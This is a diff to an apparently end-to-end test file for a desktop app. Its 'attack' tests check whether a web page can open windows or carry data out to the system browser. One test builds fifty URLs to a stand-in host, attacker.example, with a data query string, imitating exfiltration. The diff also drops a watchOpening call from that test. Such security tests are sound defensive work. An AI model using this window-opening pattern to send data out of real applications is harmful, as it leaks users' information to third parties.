@@ -1,6 +1,6 @@
 import { texts } from './support/acts.ts'
 import { navigationsAsked, watchNavigation } from './support/navigation.ts'
-import { askedToOpen, watchOpening } from './support/outside.ts'
+import { askedToOpen } from './support/outside.ts'
 import { listenForPackets } from './support/packets.ts'
 import { expect, test } from './support/test.ts'
 
@@ -30,7 +30,6 @@ test('attack: the page opens a window', async ({ app, page }) => {
 })
 
 test('attack: the page carries data to the system’s browser in fifty windows', async ({ app, page }) => {
-  await watchOpening(app)
   const opened = await page.evaluate(() =>
     Array.from({ length: 50 }, (_, n) => {
       const address = `https://attacker.example/${n}?data=${'x'.repeat(200)}`
